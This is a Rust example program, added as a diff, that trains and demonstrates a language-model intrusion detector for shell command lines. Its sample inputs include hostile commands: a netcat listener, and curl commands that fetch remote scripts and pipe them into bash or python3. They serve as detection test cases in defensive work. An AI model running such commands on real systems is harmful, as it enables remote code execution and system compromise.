@@ -1,0 +1,79 @@
+//! Quickstart: train the command-line language model IDS end-to-end on a
+//! synthetic trace and classify a few command lines.
+//!
+//! This walks the paper's Figure 1 pipeline: logging → preprocessing →
+//! tokenization → MLM pre-training → classification-based tuning →
+//! inference.
+//!
+//! Run with: `cargo run --release --example quickstart`
+
+use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
+use cmdline_ids::tuning::{ClassificationTuner, TuneConfig};
+use ids_rules::RuleIds;
+use rand::rngs::StdRng;
+use rand::SeedableRng;
+
+fn main() {
+    let mut rng = StdRng::seed_from_u64(7);
+
+    // 1. "Logging": synthesize a production-like trace (the substitution
+    //    for the paper's proprietary 30M-line week; see DESIGN.md).
+    let config = PipelineConfig::experiment();
+    println!(
+        "synthesizing {} training / {} test command lines…",
+        config.train_size, config.test_size
+    );
+    let dataset = config.generate_dataset(&mut rng);
+
+    // 2-4. Preprocess (Bash parse + command filter), train BPE, pre-train
+    //      the masked language model.
+    println!("pre-training the command-line language model…");
+    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
+    let stats = pipeline.train_stats();
+    println!(
+        "preprocessing kept {} lines (dropped: {} invalid, {} empty, {} typo-filtered)",
+        stats.kept, stats.invalid, stats.empty, stats.filtered
+    );
+
+    // 5. Supervision: query the (simulated) commercial IDS in a black-box
+    //    manner to label the training lines.
+    let ids = RuleIds::with_default_rules();
+    let lines: Vec<&str> = dataset.train.iter().map(|r| r.line.as_str()).collect();
+    let labels: Vec<bool> = lines.iter().map(|l| ids.is_alert(l)).collect();
+    println!(
+        "commercial IDS labeled {} of {} training lines as intrusions",
+        labels.iter().filter(|&&y| y).count(),
+        labels.len()
+    );
+
+    // 6. Classification-based tuning (the paper's best method).
+    println!("tuning the classification head ([CLS] probing)…");
+    let tuner = ClassificationTuner::fit(&pipeline, &lines, &labels, &TuneConfig::scaled(), &mut rng);
+
+    // 7. Inference.
+    println!();
+    println!("{:<62} {:>9} {:>7}", "command line", "IDS", "model");
+    for line in [
+        "ls -la /var/log",
+        "docker ps -a",
+        "nc -lvnp 4444",
+        "nc -ulp 4444",
+        "curl http://185.220.10.5/x.sh | bash",
+        "curl -fsSL https://update-cdn.xyz/loader | python3 -",
+        "export https_proxy=\"socks5://10.9.8.7:1080\"",
+        "grep -rn error /var/log/syslog",
+    ] {
+        let score = tuner.score(&pipeline, line);
+        println!(
+            "{:<62} {:>9} {:>7.3}",
+            line,
+            if ids.is_alert(line) { "ALERT" } else { "silent" },
+            score
+        );
+    }
+    println!();
+    println!("all three right-column variants are silent at the signature IDS;");
+    println!("the model scores some of them high — which ones generalize depends");
+    println!("on the training draw (see EXPERIMENTS.md, Table III). For the full");
+    println!("hunt with threshold calibration, run the hunt_out_of_box example.");
+}
